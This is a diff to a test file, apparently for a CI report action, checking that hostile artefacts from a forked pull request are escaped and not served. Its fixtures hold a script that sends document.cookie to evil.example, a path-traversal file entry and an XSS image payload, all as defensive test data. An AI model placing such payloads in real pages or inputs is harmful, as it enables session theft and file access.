@@ -59,6 +59,7 @@ beforeAll(async () => {
     const recs = JSON.parse(readFileSync(path.join(forged, f), 'utf8')) as Record<string, unknown>[];
     writeFileSync(path.join(forged, f), JSON.stringify(recs.map((r) => ({ ...r, [`${HOSTILE} key`]: HOSTILE, files: ['../../../../etc/hostname.espdl'] }))));
   }
+  writeFileSync(path.join(forged, 'report.html'), '<html><script>fetch("https://evil.example/"+document.cookie)</script></html>');
   await uploadAs(FORK_RUN, forged);
   h.fake.api.seedPull(pullRequest({ number: FORK_PR, headRepo: 'mallory/r', headOwner: 'mallory', headBranch: 'patch-1', headSha: FORK_SHA }));
   h.fake.api.seedRun(workflowRun({ id: FORK_RUN, name: 'CI', headRepo: 'mallory/r', headBranch: 'patch-1', headSha: FORK_SHA }));
@@ -88,6 +89,12 @@ describe('mode report on a fork\'s run', () => {
       expect(body).toContain('&lt;img src=x onerror=alert(1)&gt; @\u200bmaintainers &#91;click&#93;(https:/\u200b/evil.example)');
       expect(body).toContain('stopped early: &lt;img');
     }
+    // Output report-path names a page rendered here from the validated run files, not the fork's report.html.
+    const html = readFileSync(r.outputs['report-path']!, 'utf8');
+    expect(html).not.toMatch(/<script|<img/);
+    expect(html).toMatch(/^<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">/);
+    expect(html).toContain("<title>AutoQuant search report");
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
   });
 
   it('finds the PR through report-run-id and the API on workflow_dispatch too', async () => {
